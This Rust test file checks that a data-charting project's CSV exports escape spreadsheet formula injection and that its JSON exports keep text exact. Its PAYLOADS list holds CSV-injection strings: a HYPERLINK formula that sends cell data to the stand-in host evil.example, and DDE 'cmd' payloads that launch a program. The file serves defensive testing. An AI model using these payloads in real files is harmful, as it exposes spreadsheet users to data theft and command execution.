//! Issue 17, point 3: downloads that cannot run anything. A CSV field that
//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a
//! formula by spreadsheets (OWASP "CSV injection"): every CSV export writes
//! it with a leading single quote, quoted, while plain numbers (an honest
//! `-12.5`) stay as they are. The JSON exports keep every text exact.

use ai_race::charts::export::{self, csv_record, ExportChart, ExportFormat};
use ai_race::data::{self, Dataset};
use ai_race::i18n::Lang;
use serde_json::Value;

/// What a hostile file's texts may start with, one per formula trigger.
const PAYLOADS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

const ALL_CHARTS: [ExportChart; 4] = [
    ExportChart::Commitments,
    ExportChart::Cumulative,
    ExportChart::ActorMatrix,
    ExportChart::KeyFigures,
];

/// Whether a spreadsheet would read `field` as a formula.
fn is_formula(field: &str) -> bool {
    field.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A plain decimal number, `-12.5` or `7`.
fn is_plain_number(field: &str) -> bool {
    let digits = field.strip_prefix('-').unwrap_or(field);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && whole.chars().all(|c| c.is_ascii_digit())
        && !fraction.is_empty()
        && fraction.chars().all(|c| c.is_ascii_digit())
}

/// Puts the payloads, in turn, at the start of every text of the bundled
/// dataset (titles, labels, names, roles, quotes, publishers, document
/// titles), and into a few ids, as a file from another newsroom could.
fn hostile_dataset() -> Dataset {
    let json = data::BUNDLED_JSON
        .replace("\"openai\"", "\"@openai\"")
        .replace("\"stargate\"", "\"+stargate\"")
        .replace("\"stargate-500bn\"", "\"=stargate-500bn\"");
    let mut value: Value = serde_json::from_str(&json).expect("the bundled dataset");
    let mut n_texts = 0;
    poison(&mut value, None, &mut n_texts);
    assert!(n_texts > 100, "{n_texts} texts");
    let (dataset, problems) = data::parse(&value.to_string());
    let errors: Vec<_> = problems.iter().filter(|p| p.is_error()).collect();
    assert!(errors.is_empty(), "{errors:#?}");
    assert!(!dataset.figures.is_empty() && !dataset.actors.is_empty());
    dataset
}

fn poison(value: &mut Value, key: Option<&str>, n_texts: &mut usize) {
    match value {
        Value::Object(object) => {
            for (key, item) in object.iter_mut() {
                poison(item, Some(key), n_texts);
            }
        }
        Value::Array(items) => {
            for item in items {
                poison(item, key, n_texts);
            }
        }
        Value::String(text) => {
            let is_text = matches!(
                key,
                Some("fr" | "en" | "name" | "quote" | "publisher" | "title" | "role")
            );
            if is_text {
                let payload = PAYLOADS[*n_texts % PAYLOADS.len()];
                *text = format!("{payload} {text}");
                *n_texts += 1;
            }
        }
        _ => {}
    }
}

#[test]
fn no_csv_export_has_a_field_a_spreadsheet_would_run() {
    let dataset = hostile_dataset();
    for chart in ALL_CHARTS {
        for lang in [Lang::Fr, Lang::En] {
            let file = export::export(&dataset, chart, ExportFormat::Csv, lang);
            let (records, unclosed) = data::csv::parse(&file.content);
            assert_eq!(unclosed, None, "{}", file.file_name);
            let mut n_neutralised = 0;
            for record in &records {
                for field in &record.fields {
                    let text = &field.text;
                    assert!(
                        !is_formula(text) || is_plain_number(text),
                        "{} {}:{}: {text:?}",
                        file.file_name,
                        field.line,
                        field.column
                    );
                    if text.strip_prefix('\'').is_some_and(is_formula) {
                        n_neutralised += 1;
                    }
                }
            }
            // Not vacuous: the payloads reached this export, and were kept.
            assert!(
                n_neutralised > 0,
                "{}: no payload reached it",
                file.file_name
            );
        }
    }
}

#[test]
fn each_trigger_is_neutralised_with_a_quote_and_the_text_kept_whole() {
    let dataset = hostile_dataset();
    let mut seen = [false; PAYLOADS.len()];
    for chart in ALL_CHARTS {
        for lang in [Lang::Fr, Lang::En] {
            let file = export::export(&dataset, chart, ExportFormat::Csv, lang);
            for record in data::csv::parse(&file.content).0 {
                for field in record.fields {
                    for (payload_idx, payload) in PAYLOADS.iter().enumerate() {
                        if field.text.starts_with(&format!("'{payload}")) {
                            seen[payload_idx] = true;
                        }
                    }
                }
            }
        }
    }
    assert_eq!(
        seen,
        [true; PAYLOADS.len()],
        "each trigger reached an export"
    );
}

#[test]
fn honest_numbers_are_left_alone_and_formulas_are_quoted() {
    assert_eq!(
        csv_record(&["-12.5", "-3", "0", "500000000000"]),
        "-12.5,-3,0,500000000000\r\n"
    );
    assert_eq!(
        csv_record(&["=1+1", "+33 6", "-x", "@a", "\tb", "\rc", "a=b"]),
        "\"'=1+1\",\"'+33 6\",\"'-x\",\"'@a\",\"'\tb\",\"'\rc\",a=b\r\n"
    );
    assert_eq!(
        csv_record(&["=HYPERLINK(\"http://x\")"]),
        "\"'=HYPERLINK(\"\"http://x\"\")\"\r\n"
    );
    // A date before year 0 is text, not a number: a spreadsheet would
    // compute -0043-03-15 as -61.
    assert_eq!(csv_record(&["-0043-03-15"]), "\"'-0043-03-15\"\r\n");
}

#[test]
fn the_amounts_of_the_csv_exports_are_the_numbers_of_the_json_exports() {
    let dataset = hostile_dataset();
    let file = export::export(
        &dataset,
        ExportChart::Commitments,
        ExportFormat::Csv,
        Lang::En,
    );
    let (records, _) = data::csv::parse(&file.content);
    let header: Vec<&str> = records[0].fields.iter().map(|f| f.text.as_str()).collect();
    let value_col = header
        .iter()
        .position(|h| *h == "amount_usd")
        .unwrap_or_else(|| panic!("no amount_usd column in {header:?}"));
    let json = export::export(
        &dataset,
        ExportChart::Commitments,
        ExportFormat::Json,
        Lang::En,
    );
    let json: Value = serde_json::from_str(&json.content).expect("JSON export");
    let rows = json
        .as_object()
        .and_then(|object| object.values().find_map(Value::as_array))
        .expect("the export's list of rows");
    assert_eq!(rows.len(), records.len() - 1);
    for (record, row) in records[1..].iter().zip(rows) {
        let csv_value: f64 = record.fields[value_col].text.parse().expect("a number");
        assert_eq!(Some(csv_value), row["amount_usd"].as_f64());
    }
}

#[test]
fn json_exports_keep_every_text_exact() {
    let dataset = hostile_dataset();
    for chart in ALL_CHARTS {
        for lang in [Lang::Fr, Lang::En] {
            let file = export::export(&dataset, chart, ExportFormat::Json, lang);
            let value: Value = serde_json::from_str(&file.content).expect(&file.file_name);
            let mut texts = Vec::new();
            collect_strings(&value, &mut texts);
            assert!(
                texts
                    .iter()
                    .any(|t| PAYLOADS.iter().any(|p| t.starts_with(p))),
                "{}: the payloads are there, as written",
                file.file_name
            );
            assert!(
                !texts
                    .iter()
                    .any(|t| t.strip_prefix('\'').is_some_and(is_formula)),
                "{}: nothing neutralised in JSON",
                file.file_name
            );
        }
    }
}

fn collect_strings(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(text) => out.push(text.clone()),
        Value::Array(items) => items.iter().for_each(|item| collect_strings(item, out)),
        Value::Object(object) => object.values().for_each(|item| collect_strings(item, out)),
        _ => {}
    }
}
